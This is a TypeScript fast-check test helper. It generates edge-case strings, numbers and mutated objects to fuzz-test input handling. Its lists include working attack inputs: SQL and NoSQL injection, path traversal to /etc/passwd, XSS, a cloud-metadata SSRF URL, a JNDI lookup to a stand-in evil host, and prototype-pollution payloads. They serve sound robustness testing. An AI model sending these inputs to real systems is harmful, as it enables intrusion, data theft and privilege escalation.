import fc from 'fast-check';
import { isRecord } from './json.ts';

/** Texts known to break parsers, databases and pages. */
const edgeCaseTexts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u001b[31m',
  '\r\nx-injected: 1',
  '\u202Egnp.exe',
  '\u2066\u2067',
  '\uD800',
  'a\uDC00b',
  '\uFEFF',
  '\uFFFF',
  '＇',
  'ß'.repeat(60),
  `e${'\u0301'.repeat(200)}`,
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '$where',
  '{"$gt":""}',
  "' OR 1=1 --",
  '../../../../etc/passwd',
  '..%2f..%2f',
  '%00',
  '%ZZ',
  '%c0%ae%c0%ae/',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  '//evil.example/a.png',
  'http://169.254.169.254/latest/meta-data',
  '\u0024{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '(a+)+$',
  '^(.*)*$',
  '\\',
  '-0',
  '1e999',
  '0x10',
  'NaN',
  '9007199254740993',
  'true',
  'null',
  'undefined',
  'x'.repeat(10_000),
  '000000000000000000000000',
  'ffffffffffffffffffffffff',
  'FFFFFFFFFFFFFFFFFFFFFFFF',
  'pi_x',
  'pi_000000000000000000000000',
] as const;

export const edgeCaseText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...edgeCaseTexts) },
  fc.string({ unit: 'binary', maxLength: 30 }),
);

const edgeCaseNumber = fc.oneof(
  fc.constantFrom(0, -1, 0.001, 1.005, 1e-9, 1e15, 2 ** 31, 2 ** 53, -(2 ** 53), 1e308, Number.MIN_VALUE),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const operators = fc.constantFrom<unknown>(
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(5000)' },
  { $regex: '(a+)+$' },
  [{ $gt: '' }],
  { toString: 1, valueOf: 1 },
  { length: 1e9 },
  JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'),
);

export const edgeCaseValue: fc.Arbitrary<unknown> = fc.oneof(
  edgeCaseText,
  edgeCaseNumber,
  operators,
  fc.constantFrom<unknown>(null, true, [], {}, [[]], [null]),
);

interface Mutation {
  readonly how: 'replace' | 'drop' | 'wrap' | 'add' | 'textual';
  /** Index of the key, modulo the number of keys. */
  readonly at: number;
  readonly key: string;
  readonly value: unknown;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  how: fc.constantFrom('replace', 'replace', 'replace', 'drop', 'wrap', 'add', 'textual'),
  at: fc.nat(50),
  key: fc.constantFrom('__proto__', 'constructor', 'role', '_id', '$set', 'state', 'a.b', '', '\u0000'),
  value: edgeCaseValue,
});

function mutate(value: unknown, { how, at, key, value: other }: Mutation): unknown {
  if (!isRecord(value)) return how === 'wrap' ? [value] : other;
  const keys = Object.keys(value);
  const chosen = keys[at % Math.max(1, keys.length)];
  if (how === 'add' || chosen === undefined)
    return Object.fromEntries([...Object.entries(value), [key, other]]);
  if (how === 'drop') return Object.fromEntries(Object.entries(value).filter(([name]) => name !== chosen));
  const old = value[chosen];
  if (how === 'wrap') return { ...value, [chosen]: [old] };
  if (how === 'textual')
    return { ...value, [chosen]: typeof old === 'string' ? Number(old) : JSON.stringify(old) };
  return { ...value, [chosen]: isRecord(old) ? mutate(old, { how, at: at + 1, key, value: other }) : other };
}

/** Changes a valid value in one or two places. */
export function mutated(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc
    .tuple(valid, fc.array(mutation, { minLength: 1, maxLength: 2 }))
    .map(([value, mutations]) => mutations.reduce(mutate, value));
}
